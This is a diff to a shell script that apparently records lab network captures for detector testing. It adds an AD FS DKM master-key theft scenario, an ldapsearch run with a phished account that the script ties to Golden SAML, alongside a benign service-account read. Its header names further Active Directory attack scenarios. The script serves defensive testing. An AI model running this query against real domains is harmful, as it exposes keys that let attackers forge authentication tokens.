@@ -5,7 +5,8 @@
 #             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore \
 #             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
 #             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
-#             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename" \
+#             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename \
+#             adfs_dkm_read benign_adfs_service_read" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -549,5 +550,39 @@ sc_benign_computer_rename() {
   printf 'dn: CN=WS02,CN=Computers,%s\nchangetype: modify\nreplace: dNSHostName\ndNSHostName: ws02.%s\n' "$BASEDN" "$DNSDOM" > "$WORK/tmp/ws02.ldif"
   on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/ws02.ldif"
   expect 'ldap.protocolOp==6'
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST adfs_dkm_read benign_adfs_service_read"
+
+# What AD FS setup leaves in the directory (before any recording): its Distributed Key
+# Manager container with a contact object whose thumbnailPhoto holds the DKM master key.
+# The AD FS service account here is svc_web (the lab's IIS app pool account).
+adfs_dkm_setup() {
+  local base="CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN" key
+  key=$(head -c 32 /dev/urandom | base64)
+  printf 'dn: %s\nobjectClass: container\n\ndn: CN=7ae9ce44-0000-4d6a-9a52-3c2f1a0e2b71,%s\nobjectClass: container\n\ndn: CN=9f5c2b3e-61a4-4b0e-8f3d-2c1d0b9a8e77,CN=7ae9ce44-0000-4d6a-9a52-3c2f1a0e2b71,%s\nobjectClass: contact\nthumbnailPhoto:: %s\n' \
+    "$base" "$base" "$base" "$key" > "$WORK/tmp/adfs.ldif"
+  ip netns exec "$NS_WS" "${CL_ENV[@]}" ldapadd -c -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/adfs.ldif" >/dev/null 2>&1 || true
+}
+
+sc_adfs_dkm_read() {
+  adfs_dkm_setup
+  cap_begin adfs_dkm_read attack T1552.004 "$ATK_IP" "CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN (DKM key)" \
+    "AD FS DKM master key read over LDAP (ADFSDump's query) with a phished account ($RECON_USER): the contacts under the AD FS container with a thumbnailPhoto, which holds the key that decrypts the token-signing certificate (Golden SAML)."
+  on atk -- ldapsearch -LLL -x -H "ldap://$DC_IP" -D "$RECON_USER@$DNSDOM" -w "$RECON_PASS" -b "CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN" \
+    '(&(thumbnailphoto=*)(objectClass=contact)(!(cn=CryptoPolicy)))' thumbnailPhoto
+  expect 'ldap.protocolOp==3'
+  expect 'ldap.protocolOp==4'
+  cap_end
+}
+
+sc_benign_adfs_service_read() {
+  adfs_dkm_setup
+  cap_begin benign_adfs_service_read benign none "$WS_IP" "CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN" \
+    "The AD FS service account (svc_web here) reading its own DKM key at start-up, as AD FS does."
+  on ws -- ldapsearch -LLL -x -H "ldap://$DC_IP" -D "svc_web@$DNSDOM" -w "$WEB_PASS" -b "CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN" \
+    '(&(thumbnailphoto=*)(objectClass=contact)(!(cn=CryptoPolicy)))' thumbnailPhoto
+  expect 'ldap.protocolOp==4'
   cap_end
 }
